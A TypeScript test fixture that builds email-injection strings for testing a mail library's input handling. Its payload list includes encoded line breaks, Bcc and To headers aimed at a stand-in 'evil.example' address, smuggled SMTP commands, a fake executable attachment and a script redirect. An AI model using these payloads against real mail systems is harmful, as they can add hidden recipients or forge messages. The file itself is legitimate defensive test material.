/** Texts that try to inject headers, recipients, parts or SMTP commands. */
import type { Random } from '../../unit/random.ts';

export const intruder = 'intruder@evil.example';

const base64 = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

/** Line breaks, real or encoded, which might end a header or a line. */
const breaks = [
  '\r\n',
  '\n',
  '\r',
  '\n\n',
  '\r\n\r\n',
  '\r\n ',
  '\n\t',
  '\v',
  '\f',
  '\x1C',
  '\x85',
  '\u2028',
  '\u2029',
  '\u560D\u560A',
  '\u010D\u010A',
  '%0d%0a',
  '\\r\\n',
  '&#13;&#10;',
  '=0D=0A',
];

const parts = [
  `Bcc: ${intruder}`,
  `Cc: Someone <${intruder}>`,
  `To: ${intruder}`,
  `Reply-To: ${intruder}`,
  `From: ${intruder}`,
  `Sender: ${intruder}`,
  `Return-Path: <${intruder}>`,
  `Resent-To: ${intruder}`,
  `Disposition-Notification-To: ${intruder}`,
  'X-Injected: yes',
  'Subject: another',
  'Message-ID: <another@evil.example>',
  'Content-Type: text/html\r\n\r\n<b>bold</b>',
  'Content-Type: multipart/mixed; boundary=edge\r\n\r\n--edge\r\nContent-Type: text/html\r\n\r\n<b>bold</b>\r\n--edge--',
  '--edge\r\nContent-Disposition: attachment; filename=x.exe\r\n\r\nMZ\r\n--edge--',
  'Content-Transfer-Encoding: base64',
  `, ${intruder}`,
  `; ${intruder}`,
  `<${intruder}>`,
  `>, <${intruder}`,
  `" <${intruder}>, "`,
  `group: ${intruder}, ada@example.org;`,
  `(comment) ${intruder}`,
  `ada@example.org> RCPT TO:<${intruder}`,
  `ada@example.org SIZE=1\r\nRCPT TO:<${intruder}>`,
  `.\r\nMAIL FROM:<${intruder}>\r\nRCPT TO:<${intruder}>\r\nDATA\r\nSubject: second\r\n\r\nsecond\r\n.\r\n`,
  `.\nMAIL FROM:<${intruder}>\nRCPT TO:<${intruder}>\nDATA\nSubject: second\n\nsecond\n.\n`,
  '.',
  '..',
  '.\r\n.\r\n..\r\n...',
  `.\r\nQUIT\r\n`,
  base64(`\r\nBcc: ${intruder}`),
  base64(`a" <${intruder}>, "b`),
  `=?utf-8?Q?=0D=0ABcc:_${intruder}?=`,
  `=?utf-8?Q?ada?= <${intruder}>`,
  '=?utf-8?B?',
  `<script>location='//evil.example'</script>`,
  'begin 644 x.exe\r\n#0V%T\r\n`\r\nend',
  'é'.repeat(3000),
  'x'.repeat(20_000),
  '"'.repeat(500),
  ' '.repeat(2000),
  '👩‍👩‍👧'.repeat(300),
];

/** Creates texts: first every part after a line break, then random combinations of parts and breaks. */
export function createInjections(random: Random, count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    if (index < parts.length) return `Ada\r\n${parts[index]}`;
    const length = 1 + random.below(4);
    return Array.from({ length }, () => `${random.pick(['', 'Ada', 'ada@example.org'])}${random.pick(breaks)}${random.pick(parts)}`).join(
      '',
    );
  });
}
